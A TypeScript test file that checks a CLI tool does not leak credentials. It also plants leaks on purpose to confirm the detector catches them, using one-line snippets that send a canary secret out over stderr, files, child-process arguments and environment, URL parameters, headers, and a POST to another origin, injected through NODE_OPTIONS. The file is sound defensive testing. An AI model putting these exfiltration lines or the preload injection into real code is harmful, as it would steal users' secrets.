import { describe, expect, test } from 'vitest'
import { createStage, type Stage } from './runner.js'
import { SYNC } from './scenario.js'
import { scenarios } from './scenarios.js'

async function onStage(act: (stage: Stage) => Promise<void>): Promise<void> {
  const stage = await createStage()
  try {
    await act(stage)
  } finally {
    await stage.close()
  }
}

// Most of their time they wait for a retry or a deadline, so they wait together.
describe.concurrent('no credential gets out', () => {
  test.each(scenarios().map((scenario) => [scenario.name, scenario] as const))('%s', async (_name, scenario) => {
    await onStage(async (stage) => {
      const runs = await scenario.act(stage)
      expect(stage.leaks()).toEqual([])
      if (scenario.exits.length > 0) expect(runs.map(({ code }) => code)).toEqual(scenario.exits)
      expect([...stage.delivered()]).toEqual(expect.arrayContaining([...scenario.delivers]))
    })
  })
})

/** What a careless line in mlc would do, run inside the real mlc. `secret` and `elsewhere` stand for themselves. */
const PLANTED: readonly (readonly [string, string, string])[] = [
  ['on stderr', 'process.stderr.write(`using ${secret}\\n`)', 'stderr of mlc sync'],
  ['on stdout, in hexadecimal', 'process.stdout.write(Buffer.from(secret).toString("hex"))', 'stdout of mlc sync'],
  [
    'in the state folder',
    'fs.writeFileSync(process.env.MLC_STATE_DIR + "/session.json", JSON.stringify({ secret }))',
    '/state/session.json',
  ],
  [
    'in a packed log',
    'fs.writeFileSync(os.tmpdir() + "/mlc.log.gz", zlib.gzipSync(`POST ${encodeURIComponent(secret)}`))',
    '/tmp/mlc.log.gz (gzip)',
  ],
  [
    'in the name of a file',
    'fs.writeFileSync(os.tmpdir() + "/" + Buffer.from(secret).toString("base64url"), "")',
    'path ',
  ],
  ['in the arguments of a child', 'child.spawnSync("sh", ["-c", "sleep 0.3", secret])', 'command line of '],
  [
    'in the environment of a child',
    'child.spawnSync("sleep", ["0.3"], { env: { PATH: process.env.PATH, PASSWORD: secret } })',
    'environment of child ',
  ],
  ['to another origin', 'await fetch(elsewhere, { method: "POST", body: secret })', 'request to elsewhere: /, body'],
  [
    'in an address',
    'await fetch(`${looker}/api/4.0/versions?key=${encodeURIComponent(secret)}`)',
    'request to looker: /api/4.0/versions, target',
  ],
  [
    'to the right server in the wrong header',
    'await fetch(looker, { headers: { "x-debug": btoa(secret) } })',
    'request to looker: /, x-debug',
  ],
]

describe.concurrent('a leak that is planted is found', () => {
  test.each(PLANTED)('%s', async (_where, line, place) => {
    await onStage(async (stage) => {
      const values = { secret: stage.canaries.lookerSecret, elsewhere: stage.elsewhere.url, looker: stage.urls.looker }
      const modules = ['fs', 'os', 'zlib'].map((name) => `import ${name} from 'node:${name}'\n`).join('')
      const imports = `${modules}import child from 'node:child_process'\n`
      const given = `const { secret, elsewhere, looker } = JSON.parse(process.env.PLANTED)\n`
      const path = stage.keep('plant.mjs', `${imports}${given}if (process.argv[2] === 'sync') { ${line} }\n`)
      const env = { NODE_OPTIONS: `--import file://${path}`, PLANTED: JSON.stringify(values) }
      expect(await stage.run(SYNC, { env })).toMatchObject({ code: 0 })
      const hits = stage.leaks().filter(({ place: found }) => found.includes(place))
      expect(new Set(hits.map(({ canary }) => canary))).toEqual(new Set(['lookerSecret']))
    })
  })
})
